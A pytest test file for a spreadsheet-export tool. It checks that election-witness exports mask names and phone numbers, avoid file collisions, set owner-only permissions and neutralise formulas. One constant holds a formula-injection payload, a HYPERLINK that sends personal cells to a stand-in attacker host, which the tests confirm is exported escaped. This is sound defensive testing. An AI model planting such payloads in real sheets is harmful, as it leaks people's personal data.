"""Exports of a shared sheet after its editors have done what editors do: copied the input
tab, renamed it, added a tab whose name makes the same file name as a summary tab, typed
control characters in front of formulas. Driven through the emulator with real gspread;
a second client plays the coordinator.

Promised: a default export holds no name and no phone number in any file, whatever the tab
is called; no file overwrites another; every file is owner-only; no workbook cell is a formula.
"""

from __future__ import annotations

import csv
import stat
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sheets import private_workdir

from sheetsync.cli.main import cli
from sheetsync.core.config import load_preset, with_overrides

PRESET = "pilkada-jakbar-2024"
PERSONAL = ("Koordinator", "Nama Saksi", "HP/WA Saksi")
HOSTILE = ['\x07=HYPERLINK("http://evil.example/?d="&Q2&P2,"klik")', "\x1b=1+1"]


class Shared:
    """A persiapan demo sheet, synced, then handled by a coordinator with their own client."""

    def __init__(self, emu: Any, workdir: Path) -> None:
        from sheetsync.demo.seed import fill

        self.emu, self.workdir = emu, workdir
        self.key = emu.client().create("export-security").id
        self.args = ["--preset", PRESET, "--api-url", emu.url, "--spreadsheet", self.key]
        config = with_overrides(load_preset(PRESET), spreadsheet=self.key, api_url=emu.url)
        self.cli("init", "--with-tps")
        fill(config, phase="persiapan", seed=7, client=emu.client())
        self.cli("sync")
        coordinator = emu.client().open_by_key(self.key)
        tps = coordinator.worksheet("TPS")
        values = tps.get_all_values()
        header = values[0]
        self.personal = {row[header.index(h)] for row in values[1:] for h in PERSONAL if row[header.index(h)]}
        alamat = header.index("Alamat") + 1
        tps.update([[HOSTILE[0]], [HOSTILE[1]]], f"{chr(64 + alamat)}2", raw=True)
        coordinator.duplicate_sheet(tps.id, new_sheet_name="TPS (salinan)")
        coordinator.add_worksheet("Masalah!", rows=5, cols=3).update([["catatan", "x"]], "A1")

    def cli(self, *args: str) -> Any:
        result = CliRunner().invoke(cli, [args[0], *self.args, *args[1:]], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result


@pytest.fixture(scope="module")
def shared(emu: Any, tmp_path_factory: Any) -> Any:
    with private_workdir(tmp_path_factory.mktemp("export-security")) as path:
        yield Shared(emu, path)


def _csv_cells(out: Path) -> dict[str, list[str]]:
    cells = {}
    for f in out.glob("*.csv"):
        with f.open(encoding="utf-8-sig", newline="") as fh:
            cells[f.name] = [c for row in csv.reader(fh) for c in row]
    return cells


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sheet_really_holds_names_in_several_tabs(shared: Shared) -> None:
    book = shared.emu.client().open_by_key(shared.key)
    koordinator = book.worksheet("Rekap Koordinator").get_all_values()
    assert {r[0] for r in koordinator[1:]} & shared.personal          # the summary names coordinators
    assert len(shared.personal) > 100


def test_default_csv_export_holds_no_personal_value_in_any_tab(shared: Shared, tmp_path: Path) -> None:
    shared.cli("export", "--out", str(tmp_path))
    cells = _csv_cells(tmp_path)
    titles = [ws.title for ws in shared.emu.client().open_by_key(shared.key).worksheets()]
    assert len(cells) == len(titles)                    # "Masalah!" did not overwrite "Masalah"
    leaked = {name: sorted(set(found) & shared.personal)[:3] for name, found in cells.items()
              if set(found) & shared.personal}
    assert leaked == {}
    assert all(_mode(f) == 0o600 for f in tmp_path.iterdir())


@pytest.mark.parametrize("tab, renamed", [("TPS", "TPS Final"), ("TPS (salinan)", "TPS lama")])
def test_a_renamed_tab_is_masked_too(shared: Shared, tmp_path: Path, tab: str, renamed: str) -> None:
    book = shared.emu.client().open_by_key(shared.key)          # the coordinator renames a tab
    book.worksheet(tab).update_title(renamed)
    try:
        shared.cli("export", "--out", str(tmp_path))
    finally:
        book.worksheet(renamed).update_title(tab)
    cells = _csv_cells(tmp_path)
    assert any(name.endswith(f"-{renamed.lower().replace(' ', '-')}.csv") for name in cells)
    assert not any(set(found) & shared.personal for found in cells.values())
    assert all(_mode(f) == 0o600 for f in tmp_path.iterdir())


def test_the_workbook_holds_no_formula_and_no_personal_value(shared: Shared, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    shared.cli("export", "--out", str(tmp_path), "--format", "xlsx")
    path = next(tmp_path.glob("*.xlsx"))
    assert _mode(path) == 0o600
    book = load_workbook(path)
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    assert not set(texts) & shared.personal
    assert "'=1+1" in texts and any(t.startswith("'=HYPERLINK(") for t in texts)
    assert len(book.worksheets) == len(shared.emu.client().open_by_key(shared.key).worksheets())


def test_include_personal_still_exports_them_owner_only(shared: Shared, tmp_path: Path) -> None:
    shared.cli("export", "--out", str(tmp_path), "--include-personal")
    found = set().union(*map(set, _csv_cells(tmp_path).values()))
    assert len(found & shared.personal) > 100
    assert all(_mode(f) == 0o600 for f in tmp_path.iterdir())
